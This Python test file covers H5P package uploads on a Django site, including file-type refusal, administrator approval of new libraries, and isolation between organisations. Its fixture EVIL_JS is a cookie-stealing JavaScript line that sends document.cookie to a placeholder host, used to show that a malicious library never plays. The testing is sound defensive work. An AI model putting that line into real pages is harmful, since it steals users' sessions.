"""Real package structures are accepted; library code is installed only by a site
administrator, and no organisation's upload changes the code another's activities run."""

import io
import json
from pathlib import Path

import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

from accounts.models import Organisation
from h5p.blocks import content_for_language
from h5p.libraries import library_install, library_refuse
from h5p.models import H5PContent, H5PLibrary
from h5p.services import package_import
from h5p.validation import PackageRefused
from tests.factories import UserFactory
from tests.h5p import synthetic

EVIL_JS = b"fetch('https://collector.invalid/?c=' + document.cookie);"
HARMLESS_JS = b"var H5P_SharedLib = {};\n"


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def stored_files(root: Path):
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())


def upload(data, user=None, title="Вибір"):
    return package_import(file=io.BytesIO(data), title=title, language="uk", user=user)


def played_file(content, library_name, path="scripts/main.js") -> bytes:
    """What the player is served for `library_name` in `content` (assets read the file
    from the storage path of the library row the package plays with)."""
    library = content.libraries.get(machine_name=library_name)
    with default_storage.open(library.storage_path + path) as handle:
        return handle.read()


def test_a_package_shaped_like_a_real_one_is_accepted_with_svg_fonts_icons_and_a_patch(db, media):
    content = upload(synthetic.package())

    assert not content.awaiting_approval
    assert content.libraries.count() == 8  # the content type and a chain of seven under it
    assert set(content.libraries.values_list("status", flat=True)) == {H5PLibrary.INSTALLED}
    files = stored_files(media)
    for kept in (
        "icon.svg",
        "fonts/h5p.svg",
        "fontawesome-webfont.svg",
        "applied-patch-after-updating.patch",
    ):
        assert any(name.endswith(kept) for name in files), kept
    fonticons = content.libraries.get(machine_name="H5P.SampleFontIcons")
    assert (fonticons.patch_version, len(fonticons.files_hash)) == (6, 64)


def test_every_file_of_a_refused_type_is_named_and_the_message_says_what_to_do(db, media):
    bad = {
        "content/images/map.svg": b"<svg/>",  # H5P core allows SVG in libraries only
        "content/page.html": b"<p>",
        "content/run.js": b"x",
        "H5P.SampleChoice-1.16/shell.php": b"<?php",
        "H5P.SampleChoice-1.16/tool.exe": b"MZ",
        "H5P.SampleChoice-1.16/page.htm": b"<p>",
        "H5P.SampleChoice-1.16/noextension": b"x",
    }

    with translation.override("en"), pytest.raises(PackageRefused) as refused:
        upload(synthetic.package(extra=bad))
    message = str(refused.value.message)
    with translation.override("uk"), pytest.raises(PackageRefused) as refused_uk:
        upload(synthetic.package(extra=bad))
    with translation.override("ru"), pytest.raises(PackageRefused) as refused_ru:
        upload(synthetic.package(extra=bad))

    assert message.startswith(
        "7 files in the package are of types H5P does not allow: content/images/map.svg, "
    )
    assert "and 2 more." in message and "export the activity again" in message
    assert sum(name in message for name in bad) == 5  # the first five, the rest counted
    assert "content/images/map.svg" in str(refused_uk.value.message) and "ще 2" in str(
        refused_uk.value.message
    )
    assert "content/images/map.svg" in str(refused_ru.value.message) and "ещё 2" in str(
        refused_ru.value.message
    )
    assert stored_files(media) == [] and H5PLibrary.objects.count() == 0


def test_leftovers_starting_with_a_dot_or_underscore_and_stray_top_files_are_skipped(db, media):
    content = upload(
        synthetic.package(extra={"_notes/readme.exe": b"MZ", "content/.DS_Store": b"x", "README.php": b"x"})
    )

    files = stored_files(media)
    assert content.pk and not any(name.endswith((".exe", ".DS_Store", ".php")) for name in files)


@pytest.fixture
def trainers(db):
    lviv = Organisation.objects.create(slug="lviv")
    spb = Organisation.objects.create(slug="spb")
    return (
        UserFactory(nickname="trainer-l", organisation=lviv, role="Trainers"),
        UserFactory(nickname="trainer-s", organisation=spb, role="Trainers"),
    )


def test_a_trainers_package_whose_libraries_are_installed_is_ready_and_stores_no_library(db, media, trainers):
    first = upload(synthetic.package())  # installed by the server's operator
    library_files = [name for name in stored_files(media) if "/libraries/" in name]

    second = upload(synthetic.package(title="Інший"), user=trainers[0])

    assert not second.awaiting_approval
    assert set(second.libraries.all()) == set(first.libraries.all())
    assert [name for name in stored_files(media) if "/libraries/" in name] == library_files


def test_a_trainers_new_library_waits_for_an_administrator_and_plays_nothing_meanwhile(db, media, trainers):
    content = upload(synthetic.package(), user=trainers[0])

    assert content.awaiting_approval
    assert set(content.libraries.values_list("status", flat=True)) == {H5PLibrary.PENDING}
    assert content_for_language({"packages": [content]}, "uk") is None  # the block shows nothing

    admin = UserFactory(nickname="root", is_superuser=True, is_staff=True)
    for library in content.libraries.all():
        library_install(library=library, user=admin)

    content.refresh_from_db()
    assert not content.awaiting_approval
    assert content_for_language({"packages": [content]}, "uk") == content


def test_an_approved_newer_patch_replaces_the_older_for_every_package(db, media, trainers):
    old = upload(synthetic.package())
    newer = upload(
        synthetic.package(libraries=synthetic.chain(shared_version=(1, 0, 3), shared_js=b"var v103 = 1;")),
        user=trainers[1],
    )

    assert newer.awaiting_approval and not H5PContent.objects.get(pk=old.pk).awaiting_approval
    assert played_file(old, "H5P.SharedLib") == HARMLESS_JS  # nothing changed before approval

    library_install(library=newer.libraries.get(machine_name="H5P.SharedLib"), user=None)

    for content in (old, newer):
        content.refresh_from_db()
        assert not content.awaiting_approval
        assert played_file(content, "H5P.SharedLib") == b"var v103 = 1;"
    versions = dict(
        H5PLibrary.objects.filter(machine_name="H5P.SharedLib").values_list("patch_version", "status")
    )
    assert versions == {0: H5PLibrary.REPLACED, 3: H5PLibrary.INSTALLED}


def test_a_newer_patch_that_needs_a_new_library_brings_it_to_every_package(db, media, trainers):
    """As H5P.Question 1.5.56 needs H5P.Components 1.0, which 1.5.20 did not: a package
    uploaded with the older patch plays the newer one with the library it needs (else the
    player asks for a library the package may not serve, and the activity never starts)."""
    old = upload(synthetic.package())
    libraries = synthetic.chain()
    libraries.update(
        synthetic.library(
            "H5P.SharedLib", (1, 0, 3), deps=[("H5P.SampleComponents", 1, 0)], js=b"var v103 = 1;"
        )
    )
    libraries.update(synthetic.library("H5P.SampleComponents", (1, 0, 0)))
    newer = upload(synthetic.package(libraries=libraries), user=trainers[1])
    waiting = {library.machine_name: library for library in newer.libraries.filter(status=H5PLibrary.PENDING)}
    assert set(waiting) == {"H5P.SharedLib", "H5P.SampleComponents"}

    library_install(library=waiting["H5P.SharedLib"], user=None)
    old.refresh_from_db()
    # The library it now needs still waits: so does the package, rather than break.
    assert old.awaiting_approval
    assert old.libraries.filter(machine_name="H5P.SampleComponents").exists()

    library_install(library=waiting["H5P.SampleComponents"], user=None)
    for content in (old, newer):
        content.refresh_from_db()
        assert not content.awaiting_approval
        assert played_file(content, "H5P.SharedLib") == b"var v103 = 1;"
        assert content.libraries.get(machine_name="H5P.SampleComponents").status == H5PLibrary.INSTALLED


def test_a_package_with_an_older_patch_plays_the_installed_newer_one(db, media, trainers):
    upload(synthetic.package(libraries=synthetic.chain(shared_version=(1, 0, 3), shared_js=b"var v103 = 1;")))
    before = stored_files(media)

    older = upload(synthetic.package(libraries=synthetic.chain(shared_version=(1, 0, 1))), user=trainers[0])

    assert not older.awaiting_approval
    assert played_file(older, "H5P.SharedLib") == b"var v103 = 1;"
    assert [n for n in stored_files(media) if "/libraries/" in n] == [n for n in before if "/libraries/" in n]


def test_a_malicious_library_from_one_organisation_never_runs_in_anothers_activity(db, media, trainers):
    lviv, spb = trainers
    harmless = upload(synthetic.package(title="СПб"), user=spb)  # waits like any new code
    library_install(library=harmless.libraries.get(machine_name="H5P.SharedLib"), user=None)
    for library in harmless.libraries.filter(status=H5PLibrary.PENDING):
        library_install(library=library, user=None)

    # Lviv brings the same version number with different code
    evil = upload(synthetic.package(libraries=synthetic.chain(shared_js=EVIL_JS), title="Львів"), user=lviv)
    # ...and SPB uploads another harmless package after it
    later = upload(synthetic.package(title="СПб 2"), user=spb)

    assert evil.awaiting_approval and content_for_language({"packages": [evil]}, "uk") is None
    for content in (harmless, later):
        content.refresh_from_db()
        assert not content.awaiting_approval
        assert played_file(content, "H5P.SharedLib") == HARMLESS_JS

    library_refuse(library=evil.libraries.get(machine_name="H5P.SharedLib"), user=None)

    evil.refresh_from_db()  # refused: Lviv's package plays the installed, approved code
    assert not evil.awaiting_approval and played_file(evil, "H5P.SharedLib") == HARMLESS_JS
    assert not any(EVIL_JS in played_file(c, "H5P.SharedLib") for c in H5PContent.objects.all())


def test_a_malicious_first_upload_of_a_library_waits_and_a_second_copy_waits_apart(db, media, trainers):
    lviv, spb = trainers
    evil = upload(synthetic.package(libraries=synthetic.chain(shared_js=EVIL_JS)), user=lviv)
    harmless = upload(synthetic.package(), user=spb)

    assert evil.awaiting_approval and harmless.awaiting_approval
    evil_lib = evil.libraries.get(machine_name="H5P.SharedLib")
    assert harmless.libraries.get(machine_name="H5P.SharedLib") != evil_lib  # not the first upload's

    for library in harmless.libraries.all():
        library_install(library=library, user=None)
    harmless.refresh_from_db()
    assert played_file(harmless, "H5P.SharedLib") == HARMLESS_JS and not harmless.awaiting_approval
    evil.refresh_from_db()
    assert evil.awaiting_approval  # its different code still waits for a decision


def test_an_administrators_upload_installs_its_libraries_at_once(db, media):
    admin = UserFactory(nickname="root", is_superuser=True, is_staff=True)

    content = upload(synthetic.package(), user=admin)

    assert not content.awaiting_approval
    assert set(content.libraries.values_list("status", flat=True)) == {H5PLibrary.INSTALLED}


def test_a_library_json_without_a_patch_version_is_refused(db, media):
    libraries = synthetic.chain()
    manifest = json.loads(libraries["H5P.SharedLib-1.0"]["library.json"])
    del manifest["patchVersion"]
    libraries["H5P.SharedLib-1.0"]["library.json"] = json.dumps(manifest).encode()

    with translation.override("en"), pytest.raises(PackageRefused) as refused:
        upload(synthetic.package(libraries=libraries))

    assert "H5P.SharedLib-1.0 has a missing or broken library.json" in str(refused.value.message)


# The admin screens


def admin_upload(client, data, title="Вибір"):
    package = SimpleUploadedFile("activity.h5p", data, content_type="application/zip")
    return client.post(
        "/admin/interactive/", {"title": title, "language": "uk", "package": package}, follow=True
    )


def test_a_trainer_is_told_in_their_language_that_the_package_waits(client, trainers, media):
    client.force_login(trainers[0])

    response = admin_upload(client, synthetic.package())

    page = response.content.decode()
    assert "бібліотеки, яких на сайті ще не встановлено" in page
    assert "H5P.SharedLib-1.0 (1.0.0)" in page
    assert "Чекає, поки адміністратор схвалить його бібліотеки" in page


def test_the_registry_lists_versions_and_packages_and_only_an_administrator_installs(client, trainers, media):
    content = upload(synthetic.package(), user=trainers[0], title="Пакет Львова")
    library = content.libraries.get(machine_name="H5P.SharedLib")

    client.force_login(trainers[0])
    refused = client.get("/admin/interactive/libraries/")
    assert refused.status_code == 302
    client.post(f"/admin/interactive/libraries/{library.pk}/install/")
    library.refresh_from_db()
    assert library.status == H5PLibrary.PENDING

    admin = UserFactory(nickname="root", is_superuser=True, is_staff=True)
    client.force_login(admin)
    page = client.get("/admin/interactive/libraries/").content.decode()
    assert "H5P.SharedLib" in page and "1.0.0" in page and "Пакет Львова" in page and "trainer-l" in page
    assert "8 версій бібліотек чекають на схвалення" in page

    response = client.post(f"/admin/interactive/libraries/{library.pk}/install/", follow=True)

    library.refresh_from_db()
    assert library.status == H5PLibrary.INSTALLED and library.reviewed_by == admin
    assert "встановлено" in response.content.decode()
